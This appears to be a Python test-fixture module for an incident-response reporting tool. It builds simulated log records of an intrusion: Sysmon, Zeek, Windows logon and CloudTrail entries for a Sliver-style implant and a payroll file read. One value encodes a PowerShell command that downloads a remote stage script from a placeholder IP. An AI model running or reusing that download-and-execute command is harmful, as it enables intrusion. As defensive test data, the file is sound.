"""Small records to cite, each as its source writes it, and drafts about them."""

from __future__ import annotations

import base64
from datetime import UTC, datetime
from typing import Any

from ircopilot.domain.claims import DraftClaim
from ircopilot.report.gate import CitedEvent

T0 = datetime(2024, 1, 2, 3, 4, 5, 900_000, tzinfo=UTC)
ENCODED = base64.b64encode("iwr http://192.0.2.55/stage.ps1".encode("utf-16-le")).decode()
SHA256 = "ab" * 32


def cited(event_id: str, source: str, ecs: dict[str, Any], fields: dict[str, Any], **more: Any) -> CitedEvent:
    """A cited event at T0."""
    values = {"time": T0, "time_recorded": T0, "artifact_sha256": "c" * 64, "locator": "line:1"} | more
    return CitedEvent(event_id=event_id, source=source, ecs=ecs, fields=fields, **values)


START = cited(
    "start",
    "windows.sysmon",
    {
        "event_code": "1",
        "host_name": "WS01.corp.local",
        "user_name": "bob",
        "user_domain": "CORP",
        "process_executable": r"C:\Users\bob\evil.exe",
        "process_name": "evil.exe",
        "process_pid": 1400,
        "process_command_line": rf'"C:\Users\bob\evil.exe" --no-check -enc {ENCODED}',
        "process_parent_executable": r"C:\Windows\explorer.exe",
    },
    {
        "UtcTime": "2024-01-02 03:04:05.900",
        "Image": r"C:\\Users\\bob\\evil.exe",
        "ProcessId": "1400",
        "CommandLine": rf'"C:\Users\bob\evil.exe" --no-check -enc {ENCODED}',
        "ParentImage": r"C:\Windows\explorer.exe",
        "User": r"CORP\bob",
        "Computer": "WS01.corp.local",
        "Hashes": f"SHA256={SHA256.upper()}",
        "Elevated": False,
        "RuleName": None,
    },
)
FLOW = cited(
    "flow",
    "zeek.conn",
    {
        "source_ip": "10.0.0.5",
        "source_port": 50123,
        "destination_ip": "203.0.113.7",
        "destination_port": 443,
        "destination_bytes": 7168,
        "network_connection_id": "CX6p",
    },
    {
        "ts": 1704164645.9,
        "uid": "CX6p",
        "id.orig_h": "10.0.0.5",
        "id.orig_p": 50123,
        "id.resp_h": "203.0.113.7",
        "id.resp_p": 443,
        "resp_bytes": 7168,
        "tags": ["a b", 7],
    },
)
CERT = cited(
    "cert",
    "zeek.x509",
    {"tls_subject": "CN=Sliver Ops", "tls_issuer": "CN=Sliver CA", "network_connection_id": "CX6p"},
    {"certificate.subject": "CN=Sliver Ops", "certificate": {"issuer": "CN=Sliver CA"}, "uid": "CX6p"},
)
LOGON = cited(
    "logon",
    "windows.security",
    {
        "event_code": "4624",
        "host_name": "WS01",
        "user_target_name": "alice",
        "user_target_domain": "CORP",
        "source_ip": "10.0.0.9",
        "logon_type": "3",
    },
    {
        "TargetUserName": "alice",
        "TargetDomainName": "CORP",
        "IpAddress": "::ffff:10.0.0.9",
        "LogonType": "3",
        "Data": '{"ProcessId": "0x578"}',
    },
)
CALL = cited(
    "call",
    "aws.cloudtrail",
    {
        "event_action": "GetObject",
        "cloud_identity_arn": "arn:aws:sts::123456789012:assumed-role/web/i-0abc1234567890def",
        "cloud_access_key_id": "ASIAEXAMPLEKEY000001",
        "source_ip": "198.51.100.9",
        "user_agent_original": "[aws-cli/1.18.136 Python/3.8.5]",
        "cloud_resource": "payroll/2024/salaries.csv",
    },
    {
        "eventName": "GetObject",
        "userIdentity": {
            "arn": "arn:aws:sts::123456789012:assumed-role/web/i-0abc1234567890def",
            "accessKeyId": "ASIAEXAMPLEKEY000001",
        },
        "requestParameters": {
            "bucketName": "payroll",
            "key": "2024/salaries.csv",
            "grants": [{"roleArn": "arn:x"}, "plain", None],
        },
        "sourceIPAddress": "198.51.100.9",
        "userAgent": "[aws-cli/1.18.136 Python/3.8.5]",
    },
)
EVENTS = {e.event_id: e for e in (START, FLOW, CERT, LOGON, CALL)}


def draft(text: str, *evidence: str, kind: str = "fact", verb: str = "recorded", **more: Any) -> DraftClaim:
    """A draft that cites these events."""
    return DraftClaim(id="c1", section="s", text=text, kind=kind, verb=verb, evidence=evidence, **more)
